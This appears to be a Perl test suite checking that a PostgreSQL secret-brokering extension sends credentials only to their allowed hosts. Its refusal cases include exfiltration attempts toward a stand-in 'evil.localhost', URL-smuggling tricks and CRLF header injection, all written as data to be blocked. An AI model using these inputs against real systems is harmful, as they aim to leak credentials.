# Brokered secrets: a program knows a placeholder, the dispatcher puts the value into the one
# header, for the one host, and nobody who writes a request can lead it elsewhere. A server
# that records every byte stands on both sides: as the secret's host and as everybody else.
use strict;
use warnings;
use FindBin;
use JSON::PP;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use Time::HiRes qw(sleep time);

my $bearer = 'canary-bearer-4711-abcdefgh';
my $keyed = 'canary-header-0815-ijklmnop';
my $basic = 'canary-basic-2718-qrstuvwx';
my $hook = 'canary-hook-3141-yzabcdef';

# --- doubles ---------------------------------------------------------------------
my $dir = PostgreSQL::Test::Utils::tempdir();
# Not lexical: what is closed when the program dies waits for its child.
our ($out, $hookout);
my $recorder = open($out, '-|', 'python3', "$FindBin::RealBin/../mock/recorder.py", '--dir', $dir)
  or die "cannot start the recorder: $!";
my $ports = <$out>;
my ($plain, $tls, $other) = split ' ', $ports;
my $hookdir = PostgreSQL::Test::Utils::tempdir();
my $double = open($hookout, '-|', 'python3', "$FindBin::RealBin/../mock/webhook.py", '--dir', $hookdir, '--tls', '--exec', 'real',
	'--credential', $hook)
  or die "cannot start the webhook double: $!";
my $hookport = <$hookout>;
chomp $hookport;
my $bundle = "$dir/bundle.pem";
append_to_file($bundle, slurp_file("$dir/ca.pem") . slurp_file("$hookdir/ca.pem"));

END
{
	my $status = $?;
	kill 'TERM', grep { defined } ($recorder, $double);
	$? = $status;
}

sub recorded
{
	my ($port) = @_;
	return () unless -e "$dir/recorded.jsonl";
	return grep { !defined $port || $_->{port} eq $port } map { decode_json($_) } split /\n/, slurp_file("$dir/recorded.jsonl");
}

# --- server: a proxy of the environment that would see everything -----------------
my $node = PostgreSQL::Test::Cluster->new('broker');
$node->init;
my $keyfile = $node->basedir . '/master.key';
append_to_file($keyfile, ('0123456789abcdef' x 4) . "\n");
chmod 0600, $keyfile;
$node->append_conf('postgresql.conf', qq(
shared_preload_libraries = 'theazo'
max_worker_processes = 20
theazo.master_key_file = '$keyfile'
theazo.dispatchers = 1
theazo.ca_file = '$bundle'
theazo.egress_allow_private = on
));
{
	local $ENV{$_} = "http://127.0.0.1:$plain" foreach qw(http_proxy https_proxy all_proxy HTTPS_PROXY ALL_PROXY HTTP_PROXY);
	local $ENV{http_proxy} = "http://127.0.0.1:$plain";
	local $ENV{https_proxy} = "http://127.0.0.1:$plain";
	local $ENV{HTTPS_PROXY} = "http://127.0.0.1:$plain";
	local $ENV{ALL_PROXY} = "http://127.0.0.1:$plain";
	$node->start;
}
my $db = 'postgres';
$node->safe_psql($db, 'CREATE EXTENSION theazo CASCADE');

sub sql
{
	my ($sql) = @_;
	return $node->safe_psql($db, $sql);
}

sub quote
{
	my ($text) = @_;
	return 'NULL' unless defined $text;
	$text =~ s/'/''/g;
	return "E'" . ($text =~ s/\\/\\\\/gr) . "'";
}

sub failure
{
	my ($sql) = @_;
	my ($stdout, $err);
	$node->psql($db, "\\set VERBOSITY verbose\n$sql", stdout => \$stdout, stderr => \$err, on_error_stop => 1, timeout => 90);
	my ($state, $message) = $err =~ /ERROR:  ([0-9A-Z]{5}): (.*)/;
	my ($hint) = $err =~ /HINT:  (.*)/;
	return { state => $state // 'none', message => $message // $err, hint => $hint // '', all => $err };
}

my $platform = sql("SELECT id FROM theazo.platform_create('Brokers')");
my $key = sql("SELECT key FROM theazo.api_key_create('test', platform => '$platform')");
my $k = "api_key => '$key'";
my $session = sql("SELECT id FROM theazo.session_create('user-1', $k)");

sub secret
{
	my ($name, $value, $more) = @_;
	return sql("SELECT name FROM theazo.secret_set('$name', '$value', session => '$session', delivery => 'brokered', $more, $k)");
}

my $hosts = "hosts => ARRAY['api.localhost:$tls', '*.wild.localhost:$tls']";
secret('stripe.key', $bearer, $hosts);
secret('keyed', $keyed, "$hosts, header => 'X-Api-Key'");
secret('basic', $basic, "$hosts, username => 'user'");
secret('nowhere', 'canary-nowhere-value', "hosts => '{}'");
sql("SELECT name FROM theazo.secret_set('plain.env', 'canary-env-value-42', session => '$session', delivery => 'env', $k)");
my $agent = sql("SELECT id FROM theazo.agent_create('$session', '{}', $k)");

# What a call answers, as a hash.
sub fetch
{
	my ($url, %with) = @_;
	my $start = fetch_sql('http_fetch_start', $url, %with);
	my $run = sql("SELECT id FROM $start");
	return wait_run($run);
}

sub fetch_sql
{
	my ($function, $url, %with) = @_;
	return "theazo.$function(" . quote($with{agent} // $agent) . ', ' . quote($url) . ', method => ' . quote($with{method} // 'GET')
	  . ', headers => ' . quote(defined $with{headers} ? (ref $with{headers} ? encode_json($with{headers}) : $with{headers}) : undef)
	  . ', body => ' . quote($with{body}) . ", timeout => '" . ($with{timeout} // '20 s') . "'"
	  . (defined $with{key} ? ', idempotency_key => ' . quote($with{key}) : '') . ', api_key => ' . quote($with{api_key} // $key) . ')';
}

sub wait_run
{
	my ($run) = @_;
	$node->poll_query_until($db, "SELECT status IN ('completed', 'failed', 'cancelled') FROM theazo_data.run WHERE id = '$run'")
	  or die "run $run does not end";
	return decode_json(sql("SELECT to_jsonb(r) FROM theazo.run_results r WHERE id = '$run'")) if 0;
	return decode_json(sql("SELECT to_jsonb(r) FROM theazo.run_result('$run', $k) r"));
}

# --- the value leaves in the form that its owner chose -----------------------------
my $base = "https://api.localhost:$tls";
my $r = fetch("$base/a?b=c", headers => { Authorization => 'Bearer tzsecret_STRIPE_KEY', 'X-Mine' => 'yes' });
is($r->{status}, 'completed', 'a request with a bearer token') or diag(explain($r));
is($r->{http_status}, 200, 'status');
is($r->{response_body}, "ok\n", 'body');
is($r->{response_headers}{'content-type'}, 'text/plain', 'headers');
my ($got) = recorded('tls');
like($got->{raw}, qr{^GET /a\?b=c HTTP/1\.1\r\n}, 'as asked for');
like($got->{raw}, qr/\r\nAuthorization: Bearer \Q$bearer\E\r\n/, 'the value as a bearer token');
like($got->{raw}, qr/\r\nX-Mine: yes\r\n/, 'other headers as they were');
like($got->{raw}, qr/\r\nHost: api\.localhost:$tls\r\n/, 'host of the URL');
unlike($got->{raw}, qr/tzsecret_/, 'no placeholder left');

fetch("$base/b", method => 'POST', body => '{"n":1}', headers => { 'X-Something' => 'steal=tzsecret_KEYED;', 'Content-Type' => 'application/json' });
($got) = (recorded('tls'))[-1];
like($got->{raw}, qr/\r\nX-Api-Key: \Q$keyed\E\r\n/, 'in the header it names, whatever the placeholder stood in');
unlike($got->{raw}, qr/X-Something|steal/, 'and nothing around it');
like($got->{raw}, qr/\r\n\r\n\{"n":1\}$/, 'with the body');

require MIME::Base64;
fetch("https://a.wild.localhost:$tls/c", headers => { authorization => 'Basic ' . MIME::Base64::encode_base64('me:tzsecret_BASIC', '') });
($got) = (recorded('tls'))[-1];
is(($got->{raw} =~ /\r\nAuthorization: Basic (\S+)\r\n/)[0], MIME::Base64::encode_base64("user:$basic", ''), 'basic authentication');
unlike($got->{raw}, qr/authorization: Basic/, 'once');

fetch("https://b.a.wild.localhost:$tls/d", headers => { A => 'tzsecret_STRIPE_KEY', B => 'tzsecret_KEYED' });
($got) = (recorded('tls'))[-1];
like($got->{raw}, qr/\r\nAuthorization: Bearer \Q$bearer\E\r\n/, 'two secrets in one request: one');
like($got->{raw}, qr/\r\nX-Api-Key: \Q$keyed\E\r\n/, 'and the other');

# --- and only for its hosts ------------------------------------------------------------
my $before = recorded();
my %auth = (Authorization => 'Bearer tzsecret_STRIPE_KEY');
my @refused = (
	[ 'another host', "https://evil.localhost:$tls/", {%auth} ],
	[ 'another port', "https://api.localhost:$other/", {%auth} ],
	[ 'the host by address', "https://127.0.0.1:$tls/", {%auth} ],
	[ 'the host by another address', "https://[::1]:$tls/", {%auth} ],
	[ 'a number for an address', "https://2130706433:$tls/", {%auth} ],
	[ 'the domain itself', "https://localhost:$tls/", {%auth} ],
	[ 'what the wildcard hangs on', "https://wild.localhost:$tls/", {%auth} ],
	[ 'a longer name', "https://api.localhost.evil.localhost:$tls/", {%auth} ],
	[ 'a name that ends like it', "https://xapi.localhost:$tls/", {%auth} ],
	[ 'the host in the path', "https://evil.localhost:$tls/api.localhost:$tls/", {%auth} ],
	[ 'the host in the query', "https://evil.localhost:$tls?https://api.localhost:$tls", {%auth} ],
	[ 'the host in the fragment', "https://evil.localhost:$tls#api.localhost:$tls", {%auth} ],
	[ 'plain http', "http://api.localhost:$plain/", {%auth} ],
	[ 'http on the port of https', "http://api.localhost:$tls/", {%auth} ],
	[ 'a secret without hosts', "$base/", { A => 'tzsecret_NOWHERE' } ],
	[ 'an unknown placeholder', "$base/", { A => 'tzsecret_MISSING' } ],
	[ 'a placeholder that goes on', "$base/", { A => 'tzsecret_STRIPE_KEY_2' } ],
	[ 'a secret delivered by environment', "$base/", { A => 'tzsecret_PLAIN_ENV' } ],
	[ 'two in one header', "$base/", { A => 'tzsecret_STRIPE_KEY,tzsecret_KEYED' } ],
	[ 'two for one header', "$base/", { A => 'tzsecret_STRIPE_KEY', B => 'tzsecret_BASIC' } ],
	[ 'a second header of the name', "$base/", { A => 'tzsecret_KEYED', 'x-api-KEY' => 'mine' } ],
	[ 'one good and one bad', "$base/", { A => 'tzsecret_STRIPE_KEY', B => 'tzsecret_NOWHERE' } ],
	[ 'in the path', "$base/tzsecret_STRIPE_KEY", {} ],
	[ 'in the path, escaped', "$base/%74zsecret%5FSTRIPE_KEY", {} ],
	[ 'in the query', "$base/?k=tzsecret_STRIPE_KEY", {%auth} ],
	[ 'in the body', "$base/", {%auth}, 'k=tzsecret_STRIPE_KEY' ],
	[ 'in the name of a header', "$base/", { tzsecret_STRIPE_KEY => '1' } ],
	[ 'in basic authentication, elsewhere', "https://evil.localhost:$tls/", { Authorization => 'Basic ' . MIME::Base64::encode_base64('a:tzsecret_BASIC', '') } ],
);
foreach my $case (@refused)
{
	my ($name, $url, $headers, $body) = @$case;
	my $f = fetch($url, headers => $headers, defined $body ? (method => 'POST', body => $body) : ());
	is("$f->{status} $f->{error_sqlstate}", 'failed TZ304', "$name: refused") or diag(explain($f));
	isnt($f->{error_hint} // '', '', "$name: a hint");
	is($f->{error_code}, 'forbidden', "$name: code");
	unlike(encode_json($f), qr/canary/, "$name: no value shown");
}
like(fetch("https://evil.localhost:$tls/", headers => {%auth})->{error_message}, qr/^secret "stripe\.key" must not be sent to "evil\.localhost", port $tls$/,
	'the message names secret and host');
is(scalar(recorded()), $before, 'and nothing whatever left');

# What is refused at once, before there is a run.
foreach my $case (
	[ 'a user name', "https://api.localhost:$tls\@evil.localhost:$tls/" ],
	[ 'a user name that looks like the host', "https://evil.localhost:$tls\@api.localhost:$tls/" ],
	[ 'a backslash', "https://evil.localhost:$tls\\\@api.localhost:$tls/" ],
	[ 'a blank', "https://api.localhost:$tls /" ],
	[ 'a line break', "https://api.localhost:$tls/\nX: y" ],
	[ 'no host', 'https:///x' ],
	[ 'a letter that is not ASCII', "https://\xc3\xa4pi.localhost:$tls/" ],
	[ 'another scheme', "ftp://api.localhost:$tls/" ],
	[ 'a Host header', "$base/", { %auth, Host => 'evil.localhost' } ],
	[ 'a Transfer-Encoding header', "$base/", { %auth, 'Transfer-Encoding' => 'chunked' } ],
	[ 'a Proxy header', "$base/", { %auth, 'Proxy-Authorization' => 'x' } ],
	[ 'a folded header', "$base/", { Authorization => "Bearer tzsecret_STRIPE_KEY\r\n X: y" } ],
	[ 'a header twice', "$base/", '{"Authorization": "tzsecret_STRIPE_KEY", "authorization": "x"}' ],
	[ 'a header that is no string', "$base/", '{"Authorization": ["tzsecret_STRIPE_KEY"]}' ],
	[ 'an unknown method', "$base/", {%auth}, 'TRACE' ])
{
	my ($name, $url, $headers, $method) = @$case;
	my $f = failure('CALL ' . fetch_sql('http_fetch', $url, headers => $headers // {%auth}, method => $method) . ';');
	is($f->{state}, '22023', "$name: refused") or diag($f->{all});
	isnt($f->{hint}, '', "$name: a hint");
}
# Hosts that readers of URLs read in different ways: refused by the dispatcher.
foreach my $url ("https://api.localhost%2eevil.localhost:$tls/", "https://api.localhost%00.evil.localhost:$tls/", "https://api.localhost:/",
	"https://api.localhost:$tls:$tls/", "https://api..localhost:$tls/")
{
	my $f = fetch($url, headers => {%auth});
	is($f->{status}, 'failed', "$url is refused");
	like($f->{error_sqlstate}, qr/^(22023|TZ304)$/, "$url: SQLSTATE");
}
# Names are the same in upper case and with the dot of the root.
is(fetch("HTTPS://API.Localhost:$tls/x", headers => {%auth})->{http_status}, 200, 'upper case');
is(scalar(grep { $_->{raw} =~ /evil/i } recorded()), 0, 'nobody else heard anything');
is(scalar(recorded('plain')) + scalar(recorded('other')), 0, 'nor did the proxy of the environment, or the other port');

# --- redirects ---------------------------------------------------------------------------
foreach my $status (301, 302, 303, 307, 308)
{
	$r = fetch("$base/redirect?status=$status&to=https://evil.localhost:$other/stolen", headers => {%auth});
	is($r->{http_status}, $status, "a $status is an answer");
	is($r->{response_headers}{location}, "https://evil.localhost:$other/stolen", 'with its location');
}
is(scalar(recorded('other')), 0, 'and is not followed');

# --- what comes back -------------------------------------------------------------------------
$r = fetch("$base/echo", headers => {%auth});
like($r->{response_body}, qr/Authorization: Bearer \*\*\*/, 'an echo of the value is masked in the body');
$r = fetch("$base/echo-head", headers => {%auth});
unlike(encode_json($r), qr/canary/, 'and in a header');
$r = fetch("$base/echo", headers => { Authorization => 'Basic ' . MIME::Base64::encode_base64('x:tzsecret_BASIC', '') });
my $coded = MIME::Base64::encode_base64("user:$basic", '');
unlike(encode_json($r), qr/canary|\Q$coded\E/, 'and in base64');
foreach my $at (map { 102400 - 60 - 10 * $_ } 0 .. 9)
{
	$r = fetch("$base/cut-echo?at=$at", headers => {%auth});
	cmp_ok(length($r->{response_body}), '<=', 102400, 'a long answer is cut at 100 KiB');
	unlike($r->{response_body}, qr/canar/, 'and no half of the value stays before the cut');
}
$r = fetch("$base/big?bytes=5000000");
ok($r->{truncated} && length($r->{response_body}) == 102400, 'so is a very long one');
is(fetch("$base/status?status=503")->{http_status}, 503, 'any status is an answer');
is(fetch("$base/big?bytes=500", method => 'HEAD')->{response_headers}{'content-length'}, '500', 'HEAD');
is($_, "completed", "method works") foreach map { fetch("$base/m", method => $_)->{status} } qw(PUT PATCH DELETE OPTIONS post);

# --- the procedure ------------------------------------------------------------------------------
my $called = sql('CALL ' . fetch_sql('http_fetch', "$base/status?status=404"));
my @columns = split /\|/, $called;
like($columns[0], qr/^run_/, 'CALL returns the run');
is($columns[1], 404, 'and the status');
like($columns[2], qr/"content-type": "text\/plain"/, 'and the headers');
like($columns[3], qr/^as you wish/, 'and the body');
my $f = failure('CALL ' . fetch_sql('http_fetch', "https://evil.localhost:$tls/", headers => {%auth}) . ';');
is($f->{state}, 'TZ304', 'CALL raises what the run failed with');
like($f->{message}, qr/must not be sent/, 'with its message');

# --- traces of it ---------------------------------------------------------------------------------
my $run = $columns[0];
is(sql("SELECT message ~ '^GET api\\.localhost answered 404 after [0-9]+ ms\$' FROM theazo_data.log WHERE run_id = '$run'"), 't', 'one log line');
is(sql("SELECT count(*) FROM theazo_data.span WHERE run_id = '$run' AND status = 'completed'"), 2, 'a trace and its span');
is(sql("SELECT string_agg(action, ' ' ORDER BY id) FROM theazo_data.event WHERE run_id = '$run'"), 'http_fetch execution_started execution_completed', 'events');
is(sql("SELECT count(*) FROM theazo_data.charge WHERE run_id = '$run'"), 0, 'no charge');
cmp_ok(sql("SELECT count(*) FROM theazo_data.event WHERE action = 'http_fetch_refused' AND decision = 'deny'"), '>=', scalar(@refused), 'each refusal is an event');
is(sql("SELECT count(*) FROM theazo_data.event WHERE action = 'secret_opened' AND convert_from(body, 'UTF8')::jsonb -> 'summary' ->> 'use' = 'broker'"
		  . " AND convert_from(body, 'UTF8')::jsonb -> 'summary' ->> 'host' = 'api.localhost'") > 0, 1, 'each opening is an event, with the host');

# --- once for one key ------------------------------------------------------------------------------
my $first = sql('SELECT id FROM ' . fetch_sql('http_fetch_start', "$base/once", key => 'k1'));
is(sql('SELECT id FROM ' . fetch_sql('http_fetch_start', "$base/once", key => 'k1')), $first, 'the same key, the same run');
is(failure('SELECT id FROM ' . fetch_sql('http_fetch_start', "$base/twice", key => 'k1') . ';')->{state}, 'TZ103', 'but for another request');

# --- the agent's own list of hosts ---------------------------------------------------------------
my $bound = sql("SELECT id FROM theazo.agent_create('$session', '{\"network\": {\"enabled\": true, \"allow\": [\"a.wild.localhost:$tls\"]}}', $k)");
is(fetch("https://a.wild.localhost:$tls/", agent => $bound, headers => {%auth})->{http_status}, 200, 'a host on the list');
is(fetch("$base/", agent => $bound)->{error_sqlstate}, 'TZ405', 'one that is not');

# --- whose secrets ---------------------------------------------------------------------------------
my $strange = sql("SELECT id FROM theazo.platform_create('Strangers')");
my $strange_key = sql("SELECT key FROM theazo.api_key_create('test', platform => '$strange')");
my $strange_session = sql("SELECT id FROM theazo.session_create('u', api_key => '$strange_key')");
my $stranger = sql("SELECT id FROM theazo.agent_create('$strange_session', '{}', api_key => '$strange_key')");
$f = failure('CALL ' . fetch_sql('http_fetch', "$base/", agent => $stranger, api_key => $strange_key, headers => {%auth}) . ';');
is($f->{state}, 'TZ304', "another platform's placeholder names nothing");
my $narrow = sql("SELECT id FROM theazo.agent_create('$session', '{\"secrets\": [\"keyed\"]}', $k)");
is(fetch("$base/", agent => $narrow, headers => {%auth})->{error_sqlstate}, 'TZ304', 'an agent with a list gets what is on it');
is(fetch("$base/", agent => $narrow, headers => { A => 'tzsecret_KEYED' })->{http_status}, 200, 'and that it gets');

# --- a change takes effect with the next attempt ------------------------------------------------------
my $held = sql('SELECT id FROM ' . fetch_sql('http_fetch_start', "$base/hold?id=1&s=600", headers => {%auth}));
for (1 .. 600) { last if grep { $_->{raw} =~ m{/hold\?id=1} } recorded('tls'); sleep 0.1 }
secret('stripe.key', "$bearer-2", "hosts => ARRAY['evil.localhost:$other']");
append_to_file("$dir/release.1", '');
$r = wait_run($held);
is("$r->{status} $r->{error_sqlstate}", 'failed TZ304', 'a retry after the hosts were changed is refused') or diag(explain($r));
is(scalar(grep { $_->{raw} =~ m{/hold\?id=1} } recorded()), 1, 'and not sent');
secret('stripe.key', "$bearer-3", $hosts);
fetch("$base/e", headers => {%auth});
like((recorded('tls'))[-1]->{raw}, qr/Bearer \Q$bearer\E-3\r\n/, 'the next call uses the new value');
$held = sql('SELECT id FROM ' . fetch_sql('http_fetch_start', "$base/hold?id=2&s=1", headers => {%auth}));
is(wait_run($held)->{response_body}, "second\n", 'a GET that got no answer is sent again');
$held = sql('SELECT id FROM ' . fetch_sql('http_fetch_start', "$base/hold?id=3&s=1", method => 'POST', headers => {%auth}));
$r = wait_run($held);
is("$r->{status} $r->{error_sqlstate}", 'failed TZ408', 'a POST is not: its outcome is unknown');
is(scalar(grep { $_->{raw} =~ m{/hold\?id=3} } recorded()), 1, 'and it was sent once');
sql("SELECT theazo.secret_delete('stripe.key', session => '$session', $k)");
is(fetch("$base/f", headers => {%auth})->{error_sqlstate}, 'TZ304', 'a deleted one is gone at once');

# --- a provider's credential ------------------------------------------------------------------------------
sql("SELECT name FROM theazo.secret_set('hook', '$hook', delivery => 'brokered', hosts => ARRAY['localhost:$hookport'], $k)");

sub provider
{
	my ($endpoint) = @_;
	return sql("SELECT name FROM theazo.provider_set('mine', type => 'webhook', endpoint => '$endpoint', credential_ref => 'hook', $k)");
}

sub run_code
{
	my ($who) = @_;
	return wait_run(sql("SELECT id FROM theazo.exec_start('$who', 'sh', 'echo hello', $k)"));
}
provider("https://localhost:$hookport/compute");
my $worker = sql("SELECT id FROM theazo.agent_create('$session', '{\"provider\": \"mine\"}', $k)");
$r = run_code($worker);
is($r->{stdout}, "hello\n", 'a brokered credential opens its provider') or diag(explain($r));
my @asked = grep { ($_->{event} // '') eq 'request' } map { decode_json($_) } split /\n/, slurp_file("$hookdir/journal.jsonl");
is($asked[-1]{authorization}, "Bearer $hook", 'with the value');
ok($asked[-1]{verdicts}{signature}, 'and the signature made with it');
provider("https://evil.localhost:$other/compute");
$r = run_code($worker);
is("$r->{status} $r->{error_sqlstate}", 'failed TZ304', 'the provider re-pointed: refused') or diag(explain($r));
like($r->{error_message}, qr/^secret "hook" must not be sent to "evil\.localhost", port $other$/, 'and said');
is(scalar(grep { $_->{raw} =~ /canary|compute/ } recorded('other')), 0, 'nothing reached the new address');
is(sql("SELECT count(*) FROM theazo_data.event WHERE action = 'provider_call_refused' AND decision = 'deny' AND run_id = '$r->{id}'"
	  . " AND convert_from(body, 'UTF8')::jsonb -> 'summary' @> '{\"provider\": \"mine\", \"host\": \"evil.localhost\", \"sqlstate\": \"TZ304\"}'"),
	1, 'which is an event that says where it was to go');

# --- plain http, where the operator allows it -----------------------------------------------------------------
sql("SELECT theazo.platform_allow_egress('$platform', allow_http => true)");
secret('keyed', $keyed, "hosts => ARRAY['api.localhost:$plain']");
is(fetch("http://evil.localhost:$plain/", headers => { A => 'tzsecret_KEYED' })->{error_sqlstate}, 'TZ304', 'allowed http, another host');
is(fetch("http://api.localhost:$plain/p", headers => { A => 'tzsecret_KEYED' })->{http_status}, 200, 'allowed http, its host');
like((recorded('plain'))[-1]->{raw}, qr/^GET \/p HTTP.*\r\nX-Api-Key: \Q$keyed\E\r\n/s, 'with the value');

# --- nowhere else ------------------------------------------------------------------------------------------------
foreach my $at (recorded())
{
	next unless $at->{raw} =~ /canary/;
	my ($host) = $at->{raw} =~ /\r\nHost: (\S+)/;
	like("$at->{port} $host", qr/^(tls (api|a\.wild|b\.a\.wild)\.localhost:$tls|plain api\.localhost:$plain)$/i, 'a value only where its secret says')
	  if $at->{port} ne 'tls' || $host !~ /^(api|a\.wild|b\.a\.wild)\.localhost:$tls$/i;
}
unlike(slurp_file($node->logfile), qr/canary-(bearer|header|basic|hook)-[0-9]+-(?!.*secret_set)/, 'no value in the server log');
is(sql("SELECT count(*) FROM theazo_data.run_payload WHERE result::text ~ 'canary' OR input::text ~ 'canary'"), 0, 'none in what is stored of runs');
is(sql("SELECT count(*) FROM theazo_data.event WHERE convert_from(body, 'UTF8') ~ 'canary'"), 0, 'none in events');
is(sql("SELECT count(*) FROM theazo_data.log WHERE message ~ 'canary' OR metadata::text ~ 'canary'"), 0, 'none in logs');
$node->stop('fast');
done_testing();
